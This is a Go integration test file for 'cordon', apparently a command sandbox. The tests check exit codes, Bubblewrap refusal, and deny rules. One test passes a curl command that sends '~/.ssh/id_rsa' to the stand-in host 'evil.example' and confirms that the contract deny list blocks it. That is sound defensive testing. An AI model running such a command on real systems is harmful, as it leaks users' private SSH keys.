package integration

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/cordonhq/cordon/internal/testutil"
)

func TestExitCodesAndStdin(t *testing.T) {
	w := newWorld(t)
	if r := w.sh("exit 42"); r.code != 42 {
		t.Errorf("exit 42: got %v", r)
	}
	if r := w.sh("kill -9 $$"); r.code != 137 {
		t.Errorf("killed by SIGKILL: want 137, got %v", r)
	}
	r := w.cordon("hello from stdin\n", "run", "--", "cat")
	if r.code != 0 || r.stdout != "hello from stdin\n" {
		t.Errorf("stdin passthrough: %v", r)
	}
	r = w.cordon("", "run", "--", "no-such-command-xyz")
	if r.code != 127 {
		t.Errorf("missing command: want 127, got %v", r)
	}
	assertContains(t, "stderr", r.stderr, "cordon: no-such-command-xyz: command not found")
	r = w.cordon("", "run")
	if r.code != 2 {
		t.Errorf("no command: want usage error 2, got %v", r)
	}
}

func TestDeniedCommandPattern(t *testing.T) {
	w := newWorld(t)
	w.contract("version: 1\ncommands:\n  deny: [\"curl *\", \"git push *\"]\n")
	r := w.cordon("", "run", "--", "/usr/bin/curl", "https://evil.example", "-d", "@~/.ssh/id_rsa")
	if r.code != 125 {
		t.Fatalf("want 125, got %v", r)
	}
	if !strings.HasPrefix(r.stderr, `cordon: command denied by contract rule "curl *"`) {
		t.Errorf("stderr: got %q", r.stderr)
	}
	r = w.cordon("", "run", "--", "git", "push", "origin", "main")
	assertContains(t, "stderr", r.stderr, `rule "git push *"`)
	if r := w.cordon("", "run", "--", "echo", "curl"); r.code != 0 {
		t.Errorf("echo curl must not be denied: %v", r)
	}
}

func TestNoBwrapRefuses(t *testing.T) {
	w := newWorld(t)
	w.env[0] = "PATH=" + t.TempDir() // no bwrap on PATH
	r := w.sh("echo ran > ran.txt")
	if r.code != 125 {
		t.Fatalf("want 125 without bwrap, got %v", r)
	}
	assertContains(t, "stderr", r.stderr, "Bubblewrap is not installed")
	assertContains(t, "stderr", r.stderr, "refusing to run unsandboxed")
	assertAbsent(t, filepath.Join(w.ws, "ran.txt"))
}

// TestEnginesMissingRefuses: the cordon of `make build` links no engine client and
// hands container work to cordon-engines beside it; alone, it refuses (125, naming
// what is missing) rather than falling back to another backend.
func TestEnginesMissingRefuses(t *testing.T) {
	w := newWorld(t)
	alone := filepath.Join(t.TempDir(), "cordon")
	data, err := os.ReadFile(testutil.Cordon(t))
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(alone, data, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, b := range []string{"docker", "containerd"} {
		cmd := exec.Command(alone, "run", "--backend", b, "--", "sh", "-c", "echo ran > ran.txt")
		cmd.Dir, cmd.Env = w.ws, w.env
		out, err := cmd.CombinedOutput()
		ee, ok := err.(*exec.ExitError)
		if !ok || ee.ExitCode() != 125 || !strings.Contains(string(out), "cordon-engines is not beside it") {
			t.Errorf("--backend %s without cordon-engines: want 125 naming it, got %v: %s", b, err, out)
		}
	}
	assertAbsent(t, filepath.Join(w.ws, "ran.txt"))
}
